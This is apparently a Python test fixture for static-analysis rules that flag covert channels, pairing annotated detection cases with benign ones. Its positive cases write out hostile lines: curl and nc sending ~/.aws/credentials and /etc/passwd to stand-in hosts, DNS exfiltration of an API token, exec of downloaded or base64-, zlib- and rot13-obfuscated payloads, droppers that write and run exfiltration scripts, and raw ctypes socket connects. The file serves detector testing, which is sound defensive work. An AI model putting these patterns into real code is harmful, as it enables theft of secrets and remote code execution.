"""Fixture for covert channels (never executed)."""
import base64
import builtins
import codecs
import importlib
import os
import socket
import runpy
import subprocess
import sys
import types
import zlib
from pathlib import Path
from subprocess import check_output as co
from urllib.request import urlopen

import dns.resolver
import requests
from scapy.all import ICMP, IP, send

# ruleid: covert.process-egress host=203.0.113.5 creds=-
subprocess.run(f"curl -s -d @{os.path.expanduser('~/.aws/credentials')} https://203.0.113.5/c", shell=True)
# ruleid: covert.process-egress
co(["wget", "-q", "https://203.0.113.5/x"])
# ruleid: covert.process-egress
os.system("cat /etc/passwd | nc 198.51.100.4 9001")
# ruleid: covert.process-egress
subprocess.Popen(["sh", "-c", "scp dump.sql backup@198.51.100.9:/tmp"])
# ok: covert.process-egress
subprocess.run(["git", "status"])
# ok: covert.process-egress
subprocess.run("ls -la curl_results", shell=True)

token = os.environ["API_TOKEN"]
# ruleid: covert.dns-exfil
socket.gethostbyname(f"{token}.x.attacker.example")
# ruleid: covert.dns-exfil
dns.resolver.resolve("%s.exfil.example" % token, "A")
# ok: covert.dns-exfil
socket.gethostbyname("db.internal.example")

# ruleid: covert.raw-packet
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
# ok: covert.raw-packet
tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
# ruleid: covert.scapy
send(IP(dst="198.51.100.1") / ICMP() / token)

# ruleid: covert.dynamic-import
sock_mod = __import__(base64.b64decode("c29ja2V0").decode())
# ruleid: covert.dynamic-import
req = importlib.import_module("requests")
# ok: covert.dynamic-import
plugin = importlib.import_module("myapp.plugins.csv")

# ruleid: covert.exec-download
exec(requests.get("https://203.0.113.5/stage2.py").text)
payload = urlopen("https://203.0.113.5/stage3.py").read()
# ruleid: covert.exec-download
exec(payload)
# ok: covert.exec-download
exec("print(1)")
# ruleid: covert.exec-download
exec(base64.b64decode(requests.get("https://203.0.113.5/stage4").content))
blob = requests.get("https://203.0.113.5/stage5").content
# ruleid: covert.exec-download
exec(base64.b64decode(blob))

# Code run from a string: the sends inside are reported at the exec, decoded.
# ruleid: covert.exec-decoded host=203.0.113.5
exec(base64.b64decode("aW1wb3J0IHJlcXVlc3RzOyByZXF1ZXN0cy5wb3N0KCJodHRwczovLzIwMy4wLjExMy41L2MiLCBkYXRhPW9wZW4oIi5lbnYiKS5yZWFkKCkp"))
STAGE = "eJzLzC3ILypRKC3KyclM0itKLSxNLS7hQuXqAbn5Bal5GkoZJSUFxVb6+oaWFnqmhnqGBgZ65vpJqYnJ+XlKmlwARUsZ1g=="
# ruleid: covert.exec-decoded host=198.51.100.7
exec(zlib.decompress(base64.b64decode(STAGE)))
# ruleid: covert.exec-decoded host=evil.example
exec(codecs.decode('vzcbeg erdhrfgf\nerdhrfgf.trg("uggcf://rivy.rknzcyr/c")', "rot13"))
# ruleid: covert.exec-decoded host=198.51.100.8
exec(bytes(b"\x89\x94\x97\x96\x99\xa3@\xa2\x96\x83\x92\x85\xa3%\xa2\x96\x83\x92\x85\xa3K\x83\x99\x85\x81\xa3\x85m\x83\x96\x95\x95\x85\x83\xa3\x89\x96\x95MM\xfc\xf1\xf9\xf8K\xf5\xf1K\xf1\xf0\xf0K\xf8\xfck@\xf4\xf4\xf3]]").decode("cp1026"))
# ruleid: covert.exec-decoded host=rev.example
eval(')"x/elpmaxe.ver//:sptth"(tsop.stseuqer'[::-1])
# ruleid: covert.exec-decoded
eval("__import__('os').system('wget -q https://198.51.100.2/x')")
# ruleid: covert.exec-decoded host=203.0.113.9
vars(__builtins__)["eval"]("requests.get('https://203.0.113.9/v')")
# ruleid: covert.exec-decoded host=203.0.113.10
getattr(builtins, "exec")("requests.get('https://203.0.113.10/g')")
# ruleid: covert.exec-decoded host=203.0.113.11
__builtins__.__dict__["exec"]("requests.get('https://203.0.113.11/d')")
# ruleid: covert.exec-decoded host=203.0.113.16
vars(__builtins__).get("eval")("requests.get('https://203.0.113.16/g')")
# ruleid: covert.exec-decoded host=203.0.113.12
exec(compile("".join(["requests.", "get('https://203.0.113.12/j')"]), "<s>", "exec"))
# ruleid: covert.exec-decoded host=203.0.113.14
types.FunctionType(compile("requests.get('https://203.0.113.14/f')", "<f>", "exec"), globals())()
LOADER_SRC = base64.b64decode("cmVxdWVzdHMuZ2V0KCJodHRwczovLzIwMy4wLjExMy4xNS9tIik=")
spec = importlib.util.spec_from_loader("stage", loader=None)
mod = importlib.util.module_from_spec(spec)
# ruleid: covert.exec-decoded host=203.0.113.15
exec(LOADER_SRC, mod.__dict__)
# ok: covert.exec-decoded
exec(base64.b64decode("cHJpbnQoMSk="))
# ok: covert.exec-decoded
eval("1 + 2")

def dropper():
    with open("/tmp/stage.py", "w") as f:
        f.write("import requests\nrequests.post('https://203.0.113.13/up', data=open('/etc/passwd').read())\n")
    # ruleid: covert.exec-written-file host=203.0.113.13
    runpy.run_path("/tmp/stage.py")
    # ruleid: covert.exec-written-file host=203.0.113.13
    subprocess.run([sys.executable, "/tmp/stage.py"])
    # ok: covert.exec-written-file
    subprocess.run([sys.executable, "/tmp/other.py"])
    # ruleid: covert.exec-decoded host=203.0.113.13
    exec(open("/tmp/stage.py").read())


def dropper_pathlib():
    Path("/tmp/p2.py").write_text("import socket\nsocket.create_connection(('198.51.100.30', 4444))\n")
    # ruleid: covert.exec-written-file host=198.51.100.30
    runpy.run_path("/tmp/p2.py")

# ruleid: covert.obfuscated-destination
requests.post(base64.b64decode("aHR0cHM6Ly8yMDMuMC4xMTMuNS91").decode(), data=os.environ)
# ruleid: covert.obfuscated-destination
urlopen("".join(chr(c) for c in [104, 116, 116, 112, 58, 47, 47, 101, 118, 105, 108, 46, 101, 120]))

# ruleid: covert.suspicious-host
requests.post("https://webhook.site/4f1c", data=open(".env").read())
# ruleid: covert.ip-lookup
ip = requests.get("https://api.ipify.org").text

# Socket calls into the C library through ctypes and cffi.
import ctypes
import ctypes.util
import struct

import cffi

libc = ctypes.CDLL(ctypes.util.find_library("c"))
fd = libc.socket(2, 1, 0)
sockaddr = struct.pack("!HH4s8x", 2, 4444, socket.inet_aton("203.0.113.55"))
# ruleid: covert.ffi-socket
libc.connect(fd, sockaddr, len(sockaddr))
# ruleid: covert.ffi-socket
ctypes.cdll.LoadLibrary("libc.so.6").sendto(fd, b"x", 1, 0, sockaddr, len(sockaddr))
# ruleid: covert.ffi-socket
ctypes.windll.ws2_32.connect(fd, sockaddr, 16)
ffi = cffi.FFI()
ffi.cdef("int connect(int, const void *, unsigned int);")
lib = ffi.dlopen(None)
# ruleid: covert.ffi-socket
lib.connect(fd, sockaddr, len(sockaddr))
# ok: covert.ffi-socket
libc.strlen(b"connect")
# ok: covert.ffi-socket
ffi.dlopen(None).sqrt(2.0)
